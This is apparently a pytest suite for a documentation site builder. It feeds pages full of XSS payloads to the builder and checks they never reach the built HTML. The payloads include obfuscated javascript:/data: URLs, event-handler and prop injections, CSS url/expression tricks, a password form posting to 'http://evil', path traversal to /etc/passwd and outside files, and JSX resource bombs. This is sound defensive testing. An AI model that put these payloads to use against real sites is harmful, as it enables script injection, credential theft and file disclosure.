"""Pages of strangers: what must never reach the built page."""

# ruff: noqa: E501 -- pages of one line each

from __future__ import annotations

import re
from pathlib import Path

import html5lib
import pytest
from building import Project
from docutils import nodes
from rendering import Rendered, render

ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\nscript:alert(1)",
    "java\tscript:alert(1)",
    " \x01javascript:alert(1)",
    "javascript :alert(1)",
    "vbscript:x",
    "data:text/html,<script>alert(1)</script>",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "file:///etc/passwd",
    "blob:x",
)
PAGE = """---
title: 'T <script>alert("title")</script>'
description: '<img src=x onerror=alert(2)> [d](javascript:alert(3))'
icon: '"><script>alert(4)</script>'
og:title: '"><script>alert(5)</script>'
---

<script>alert(6)</script>

<style>{`body{background:url(http://evil)}`}</style>

<object data="x"></object> <embed src="x" /> <base href="http://evil/" /> <link rel="stylesheet" href="http://evil" />

<meta httpEquiv="refresh" content="0;url=http://evil" />

<div onClick={() => alert(7)} onclick="alert(8)" dangerouslySetInnerHTML={{__html: "<script>alert(9)</script>"}}>x</div>

<img src="x.png" onError="alert(10)" srcDoc="<script>" />

<svg onload="alert(11)"><script>alert(12)</script><foreignObject><p>f</p></foreignObject><use href="http://evil#x" /><path d="M0" onclick="alert(13)" /></svg>

<a style="background:url(javascript:alert(14))" href="/ok">ok</a>

<div style={{background: 'url(http://evil)', color: 'red', position: 'fixed', width: 'expression(alert(15))'}}>styled</div>

<div style="color:red;behavior:url(x);background:u\\72l(x);@import 'x'">styled</div>

<iframe src="http://evil/"></iframe>

<iframe src="javascript:alert(16)" srcDoc="<script>alert(17)</script>"></iframe>

<iframe src="https://ok.example/" srcdoc="<script>alert(18)</script>" onload="alert(19)" sandbox="allow-top-navigation"></iframe>

<form action="http://evil"><input name="password" type="password" /><button formAction="javascript:alert(20)">b</button></form>

<video src="javascript:alert(21)" poster="javascript:alert(22)"></video>

<Card title={'<script>alert(23)</script>'} href="javascript:alert(24)" icon={'"><script>alert(25)</script>'} img="javascript:alert(26)">c</Card>

<Tooltip tip={'<img src=x onerror=alert(27)>'} href="javascript:alert(28)" cta="go">t</Tooltip>

<Icon icon="x" color="red;background:url(http://evil)" size={'1px" onload="alert(29)'} />

<Callout color="red;}</style><script>alert(30)</script>">c</Callout>

<Badge color={'x" onclick="alert(31)'}>b</Badge>

<Color.Item name={'<b onclick=x>'} value="red;background:url(http://evil)" />

<Accordion title="a" id={'"><script>alert(32)</script>'}>a</Accordion>

<Tab title={'"><script>alert(33)</script>'}>t</Tab>

<Mermaid>{'</pre><script>alert(34)</script>'}</Mermaid>

<Update label={'<script>alert(35)</script>'} tags={['<script>']}>u</Update>

```html "><script>alert(36)</script>
<script>alert(37)</script>
```

## Heading {#"><script>alert(38)</script>}

{'<script>alert(39)</script>'}

<div id={'x" onmouseover="alert(40)'} className={'a" onclick="alert(41)'} data-x={'"><script>alert(42)</script>'} data-docsnav-sync="npm">d</div>

![alt" onerror="alert(43)](/p.png "t\\" onerror=\\"alert(44)")

![../../etc](../../../../../../etc/passwd)

<a name="x" target="_blank" href="https://ok.example/">safe</a>

[l](<javascript:alert(45)>) [m](&#106;avascript:alert(46)) <javascript:alert(47)>

`<script>alert(48)</script>` <span title={'" onclick="alert(49)'}>s</span>
"""


@pytest.mark.parametrize("address", ADDRESSES)
def test_no_spelling_of_an_address_gets_through(tmp_path: Path, address: str) -> None:
    literal = address.replace("\n", "\\n").replace("\t", "\\t").replace("\x01", "\\u0001")
    text = f"<a href={{'{literal}'}}>words</a>\n\n<Card title=\"t\" href={{'{literal}'}} />\n\n<img src={{'{literal}'}} alt=\"\" />\n"
    page = render(tmp_path, text)
    assert "words" in page.document.astext()
    targets = [
        node.get("refuri", node.get("uri"))
        for node in page.document.findall()
        if hasattr(node, "get")
    ]
    assert not [target for target in targets if target]
    assert {fault.kind.value for fault in page.host.faults} == {"link_unsafe"}


def test_code_that_reads_in_another_order_is_named_once(tmp_path: Path) -> None:
    code = "```js\na = 1\nb = '\u202e'\n```\n\n```js\n\u2066\n```\n\n```js\n'שלום'\n```\n"
    page = render(tmp_path, code)
    (fault,) = page.host.faults
    assert fault.position is not None
    assert fault.position.line == 3
    assert "U+202E" in fault.message


@pytest.mark.parametrize(
    "code",
    [
        "words\n`a\u202eb`",
        "\n<CodeBlock>a\u2066b</CodeBlock>",
        "\n<pre>a\u202db</pre>",
        "\nwords <code>a\u2069b</code>",
        "\n<pre><code>a\u202cb</code></pre>",
    ],
)
def test_other_code_that_reads_in_another_order_is_named(tmp_path: Path, code: str) -> None:
    (fault,) = render(tmp_path, f"{code}\n\nW\u202e\u202c `שלום` <code>\u200f</code>\n").host.faults
    assert fault.position is not None
    assert fault.position.line == 2
    assert "changes its order" in fault.message


def test_a_hostile_page_is_built_without_any_of_it(project: Project) -> None:
    project.write(
        {"docs.json": '{"navigation": {"pages": ["index"]}}', "index.mdx": PAGE, "p.png": "x"}
    )
    project.build("html", conf={"html_theme": "basic"})
    built = (project.root / "out" / "html" / "index.html").read_text("utf-8")
    body = html5lib.parse(built, namespaceHTMLElements=False).find("body")
    assert body is not None
    article = [element for element in body.iter() if isinstance(element.tag, str)]
    scripts = [element for element in article if element.tag == "script"]
    assert all((script.get("src") or "_static/").startswith("_static/") for script in scripts)
    assert not [script.text for script in scripts if "alert" in (script.text or "")]
    names = {element.tag for element in article}
    assert not names & {"object", "embed", "base", "link", "meta", "style", "foreignobject", "use"}
    attributes = [(element.tag, *item) for element in article for item in element.items()]
    assert not [item for item in attributes if item[1].startswith("on")]
    assert not [
        item
        for item in attributes
        if item[1] in {"srcdoc", "formaction", "action"} and item[0] != "form"
    ]
    values = [value for _tag, _name, value in attributes]
    assert not [
        value
        for value in values
        if re.match(r"\s*(javascript|vbscript|data|file):", value, re.IGNORECASE)
    ]
    styles = [value for _tag, name, value in attributes if name == "style"]
    assert not [
        style for style in styles if re.search(r"url|expression|fixed|import|behavior|\\", style)
    ]
    frames = [element for element in article if element.tag == "iframe"]
    assert [frame.get("src") for frame in frames] == ["https://ok.example/"]
    assert "allow-top-navigation" not in str(frames[0].get("sandbox"))
    assert "evil" not in "".join(values)
    assert "etc/passwd" not in "".join(values)


@pytest.mark.parametrize(
    "bomb",
    [
        "{'x'.repeat(1000000000)}",
        "{[1,2,3].map(a => [1,2,3].map(b => [1,2,3].map(c => 'x'.repeat(99999))))}",
        "{constructor.constructor('return 1')()}",
        "{({}).__proto__}",
        "export const f = () => f()\n\n{f()}",
        "export const F = () => <F />\n\n<F />",
        "export const F = () => <><F /><F /></>\n\n<F />",
        "<F {...{}} {...F} />",
    ],
)
def test_bombs_end_as_text_and_a_warning(tmp_path: Path, bomb: str) -> None:
    page = render(tmp_path, f"---\ntitle: T\n---\n\n{bomb}\n\nAfter\n")
    assert page.document.astext().endswith("After")
    assert len(page.document.astext()) < 500_000


SPELLINGS = (
    'href="javascript&#58;alert(1)"',
    'href="javascript&colon;alert(1)"',
    'href="&#106;&#x61;vascript:alert(1)"',
    'href="java&NewLine;script:alert(1)"',
    'href="java&Tab;script:alert(1)"',
    'href="&#1;&#32;javascript:alert(1)"',
    "href={`java${'script'}:alert(1)`}",
    "href={'JAVA' + 'SCRIPT:alert(1)'}",
    "{...{href: 'javascript:alert(1)'}}",
    "href={['javascript', 'alert(1)'].join(':')}",
    "href={'tpircsavaj:alert(1)' && 'javascript:alert(1)'}",
    'href="view-source:javascript:alert(1)"',
    'href="feed:javascript:alert(1)"',
    'href="data:text/html;base64,PHNjcmlwdD4="',
    'href="DATA:image/svg+xml;base64,PHN2Zz4="',
    'href="intent://x#Intent;end"',
    'href="ms-its:x"',
    'href="mhtml:file://x"',
)


@pytest.mark.parametrize("spelling", SPELLINGS)
def test_no_spelling_of_an_attribute_gets_through(tmp_path: Path, spelling: str) -> None:
    text = (
        "export const L = ({to}) => <a href={to}>own</a>\n\n"
        f'<a {spelling}>words</a>\n\n<Card title="t" {spelling} />\n\n'
        f"<svg><a {spelling.replace('href', 'xlinkHref')}><text>s</text></a></svg>\n\n"
        f"<L {spelling.replace('href', 'to')} />\n\n<area {spelling} />\n"
    )
    page = render(tmp_path, text)
    assert addresses(page) == []
    safe = re.sub("=.*|.*{.*", "='https://x.example'", spelling) if "..." not in spelling else ""
    assert bool(addresses(render(tmp_path, text.replace(spelling, safe)))) is bool(safe)


def addresses(page: Rendered) -> list[str]:
    """Return every address of a page, wherever it is kept."""
    return [
        str(value)
        for node in page.document.findall(nodes.Element)
        for name in ("refuri", "uri", "html")
        if (value := node.get(name))
    ]


MARKDOWN = (
    "[a][r]\n\n[r]: javascript:alert(1)",
    "[a][r]\n\n[r]: <java&#10;script:alert(1)>",
    "![a](javascript:alert(1))",
    "![a](data:image/svg+xml,<svg/onload=alert(1)>)",
    "[![a](/p.png)](javascript:alert(1))",
    "[a](&#x6A;avascript:alert(1))",
    "[a](javascript&colon;alert(1))",
    "[a](\\javascript:alert(1))",
    "[a](java%0Ascript:alert(1))",
    "[a]( javascript:alert(1))",
    "<javascript:alert(1)>",
    "> [!NOTE]\n> [a](vbscript:x)",
    "| [a](javascript:alert(1)) |\n| - |",
    "[^1]\n\n[^1]: [a](javascript:alert(1))",
)


@pytest.mark.parametrize("text", MARKDOWN)
def test_markdown_leads_to_no_script(tmp_path: Path, text: str) -> None:
    (tmp_path / "p.png").touch()
    page = render(tmp_path, f"---\ntitle: T\n---\n\n{text}\n")
    targets = [
        str(node.get("refuri") or node.get("uri"))
        for node in page.document.findall(nodes.Element)
        if node.get("refuri") or node.get("uri")
    ]
    unsafe = re.compile(r"\s*(?:java\s*script|vbscript|data):", re.IGNORECASE)
    assert [target for target in targets if unsafe.match(target)] == []


@pytest.mark.parametrize(
    "text",
    [
        "import S from '../secret.mdx'\n\n<S />",
        "import S from '/../secret.mdx'\n\n<S />",
        "import S from '/..%2fsecret.mdx'\n\n<S />",
        "import S from '/link.mdx'\n\n<S />",
        "import { a } from '../secret.jsx'\n\n{a}",
        "import d from '/../secret.json'\n\n{d.a}",
        '<Snippet file="../../secret.mdx" />',
        '<Snippet file="/../secret.mdx" />',
        '<Snippet file="..\\\\..\\\\secret.mdx" />',
        "<Snippet file={'../'.repeat(3) + 'secret.mdx'} />",
    ],
)
def test_no_snippet_comes_from_outside_of_the_site(tmp_path: Path, text: str) -> None:
    site = tmp_path / "site"
    site.mkdir()
    (tmp_path / "secret.mdx").write_text("secret words\n", "utf-8")
    (tmp_path / "secret.jsx").write_text("export const a = 'secret words'\n", "utf-8")
    (tmp_path / "secret.json").write_text('{"a": "secret words"}', "utf-8")
    (site / "link.mdx").symlink_to(tmp_path / "secret.mdx")
    page = render(site, f"---\ntitle: T\n---\n\n{text}\n\nEnd.\n")
    assert "secret words" not in page.document.astext()
    assert "import_missing" in {fault.kind.value for fault in page.host.faults}


@pytest.mark.parametrize(
    "tag",
    [
        "![alt]({})",
        '<img src="{}" alt="alt" />',
        '<video src="{}">alt</video>',
        '<video><source src="{}" /></video>',
        '<Card title="t" img="{}">alt</Card>',
        '<Icon icon="{}" />',
        "[alt]({})",
        '<a href="{}">alt</a>',
    ],
)
@pytest.mark.parametrize(
    "path", ["../secret.png", "/../secret.png", "/..%2Fsecret.png", "/link.png"]
)
def test_no_file_comes_from_outside_of_the_site(tmp_path: Path, tag: str, path: str) -> None:
    site = tmp_path / "site"
    site.mkdir()
    (tmp_path / "secret.png").touch()
    (site / "link.png").symlink_to(tmp_path / "secret.png")
    page = render(site, f"---\ntitle: T\n---\n\n{tag.format(path)}\n")
    assert found(page) == []
    (site / "inside.png").touch()
    assert found(render(site, f"---\ntitle: T\n---\n\n{tag.format('/inside.png')}\n")) != []


def found(page: Rendered) -> list[str]:
    """Return the files that a page shows or leads to."""
    return [
        str(value)
        for node in page.document.findall(nodes.Element)
        for name in ("uri", "refuri", "html")
        if re.search(r"\.png", str(value := node.get(name))) and "page:" not in str(value)
    ]


def test_a_markdown_link_with_a_refused_address_is_reported_as_a_tag_is(
    tmp_path: Path,
) -> None:
    page = "[a](javascript:alert(1)) [b][r] ![c](javascript:alert(2))\n\n[r]: vbscript:x\n"
    done = render(tmp_path, page)
    refused = [fault.message for fault in done.host.faults]
    assert refused == [
        "address 'javascript:alert(1)' is not of an allowed kind; kept as text",
        "address 'vbscript:x' is not of an allowed kind; kept as text",
        "address 'javascript:alert(2)' of an image is not of an allowed kind; left out",
    ]
    assert done.document.astext().split()[-3:] == ["a", "b", "c"]
